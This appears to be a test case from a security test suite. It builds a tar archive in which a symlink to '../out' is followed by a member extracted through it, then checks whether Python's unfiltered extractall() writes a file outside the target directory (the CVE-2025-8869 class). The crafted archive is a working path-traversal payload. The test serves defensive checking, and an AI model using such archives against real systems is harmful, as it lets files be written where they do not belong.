# SPDX-License-Identifier: LGPL-2.1-or-later
# A link and a member below it in one archive, extracted without a filter.
# The class of CVE-2025-8869.

tool='python3'
what='extractall() goes through a link'
kind=escape
says='"x" is a symlink to "../out"'
needs='python3'

setup()
{
	python3 - <<'PY'
import io, tarfile
with tarfile.open("e.tar", "w") as tar:
    link = tarfile.TarInfo("x")
    link.type = tarfile.SYMTYPE
    link.linkname = "../out"
    tar.addfile(link)
    member = tarfile.TarInfo("x/new")
    member.size = 4
    tar.addfile(member, io.BytesIO(b"PWN\n"))
PY
}

attack()
{
	trusted python3 -W ignore -c '
import tarfile
tarfile.open("e.tar").extractall("root")'
}

escaped()
{
	[ -e out/new ]
}
